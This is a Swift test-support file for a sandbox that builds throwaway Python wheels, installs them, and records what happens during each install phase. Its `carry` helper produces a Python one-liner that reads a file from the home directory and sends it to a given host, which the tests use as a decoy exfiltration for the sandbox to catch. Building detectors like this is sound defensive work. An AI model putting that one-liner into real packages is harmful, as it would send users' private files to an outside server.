import Evidence
import Glibc
import TestSupport
import Testing

@testable import Sandbox

/// What this machine has of what observations need.
enum Stages {
  static let python = HostPython.find()
  static let hasPython = python?.pip != nil
  static let noPython: Comment = "no interpreter with pip on the search path"
  static let uv = HostPython.findProgram("uv") ?? pyenvUV

  /// Behind the script that a version manager puts on the search path.
  private static let pyenvUV: String? = {
    guard
      let root = getenv("PYENV_ROOT").map({ String(cString: $0) })
        ?? getenv("HOME").map({ String(cString: $0) + "/.pyenv" })
    else { return nil }
    return Directory.names(root + "/versions", limit: 100).sorted().lazy
      .map { "\(root)/versions/\($0)/bin/uv" }.first { FileStatus.isProgram($0) }
  }()

  /// A wheel that nobody publishes, observed by one persona and pip alone, unless `change` wants it otherwise.
  static func observe(
    _ members: [(String, String)], entryPoints: String? = nil, modules: [String] = [], phases: Set<Phase> = [],
    _ change: (inout Observer.Request) -> Void = { _ in }
  ) throws -> Observation {
    var wheel = WheelBuilder(name: "harbour", files: members)
    wheel.entryPoints = entryPoints
    return try observe(name: wheel.fileName, bytes: wheel.build(), modules: modules, phases: phases, change)
  }

  static func observe(
    name: String, bytes: [UInt8], modules: [String] = [], phases: Set<Phase> = [],
    _ change: (inout Observer.Request) -> Void = { _ in }
  ) throws -> Observation {
    var request = Observer.Request(name: name, bytes: bytes, python: try #require(python))
    request.modules = modules
    request.personas = [.laptop]
    request.phases = phases
    request.uv = nil
    change(&request)
    return try Observer.observe(request)
  }

  /// A wheel of one module, for installing beside another.
  static func wheel(_ name: String, _ members: [(String, String)]) -> Observer.Request.File {
    let wheel = WheelBuilder(name: name, files: members)
    return (wheel.fileName, wheel.build())
  }

  /// Code that carries a decoy to the sink.
  static func carry(_ file: String, to host: String) -> String {
    "import os, urllib.request as u; "
      + "u.urlopen('http://\(host)/x', data=open(os.path.expanduser('~/\(file)'), 'rb').read())\n"
  }
}

extension Observation {
  func levels(_ phase: Phase) -> Set<EvidenceLevel> {
    Set(evidence.filter { stages[$0.stage].phase == phase }.map(\.level))
  }

  func stage(_ name: String) -> ObservationStage? { stages.first { $0.name.hasPrefix(name) } }
  func gap(_ name: String) -> UnobservedStage? { unobserved.first { $0.isGap && $0.name.hasPrefix(name) } }
}

extension ObservationStage {
  func events(_ isWanted: (ObservedAction) -> Bool) -> [ObservedEvent] { events.filter { isWanted($0.action) } }

  /// Exchanges with a host.
  func exchanges(_ host: String) -> [ObservedEvent] {
    events { action in
      if case .exchange(let said) = action { return said.host == host }
      return false
    }
  }
}
